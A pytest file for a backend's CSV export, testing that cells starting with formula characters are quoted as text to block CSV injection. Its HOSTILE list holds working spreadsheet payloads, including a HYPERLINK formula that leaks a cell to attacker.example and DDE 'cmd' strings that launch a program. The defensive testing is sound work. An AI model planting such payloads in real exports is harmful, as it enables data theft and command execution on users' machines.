"""Every CSV export quotes a cell that a spreadsheet would run as a formula (CSV injection)."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from fastapi.testclient import TestClient

from backend.core.csv_export import cell, csv_text
from tests.aws.conftest import Emulator, app_client, provider, with_credentials
from tests.aws.test_tools import AMI, run

__all__ = ["app_client", "provider", "with_credentials"]

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_cell__formula_start__quoted_as_text(text: str) -> None:
    assert cell(text) == "'" + text


@pytest.mark.parametrize(
    ("value", "shown"),
    [(None, ""), (-5, "-5"), (2.5, "2.5"), (True, "True"), ("plain", "plain"), ("a=b", "a=b")],
)
def test_cell__numbers_and_plain_text__unchanged(value: object, shown: str) -> None:
    assert cell(value) == shown


def test_csv_text__quotes_and_newlines__survive_a_round_trip() -> None:
    text = csv_text(["a", "b"], [['say "hi", ok', "two\nlines"]])
    assert list(csv.reader(io.StringIO(text))) == [["a", "b"], ['say "hi", ok', "two\nlines"]]


def test_history_csv__reason_with_a_formula__exported_as_text(
    client: TestClient, admin_headers: dict[str, str]
) -> None:
    # Given flag changes whose reasons are formulas
    for i, reason in enumerate(HOSTILE):
        r = client.post(
            "/api/feature-flags/toggle",
            headers=admin_headers,
            json={"flag_name": "thread_safe_sessions", "enabled": i % 2 == 1, "reason": reason},
        )
        assert r.status_code == 200, r.text
    # When the history is exported
    export = client.get("/history.csv?flag=thread_safe_sessions", headers=admin_headers)
    assert export.status_code == 200
    rows = list(csv.DictReader(io.StringIO(export.text, newline="")))
    # Then every such reason is text (a leading apostrophe), the rest of the row as it was
    assert sorted(r["reason"] for r in rows) == sorted("'" + h for h in HOSTILE)
    assert {r["flag"] for r in rows} == {"thread_safe_sessions"}
    assert all(r["id"].isdigit() and r["from"] in ("True", "False") for r in rows)


def test_aws_run_csv__tag_with_a_formula__exported_as_text(
    app_client: TestClient,
    admin_headers: dict[str, str],
    with_credentials: dict[str, Any],
    emulator: Emulator,
) -> None:
    # Given an instance whose Name tag, set by anyone with EC2 rights, is a formula
    emulator.client("ec2", "us-east-1").run_instances(
        ImageId=AMI,
        MinCount=1,
        MaxCount=1,
        TagSpecifications=[
            {"ResourceType": "instance", "Tags": [{"Key": "Name", "Value": HOSTILE[0]}]}
        ],
    )
    result = run(app_client, admin_headers, "ec2_instances", with_credentials)
    # When the run is downloaded as CSV
    r = app_client.get(f"/api/aws/runs/{result['id']}/download?format=csv", headers=admin_headers)
    # Then the tag is text
    [row] = list(csv.DictReader(io.StringIO(r.text)))
    assert row["name"] == "'" + HOSTILE[0]
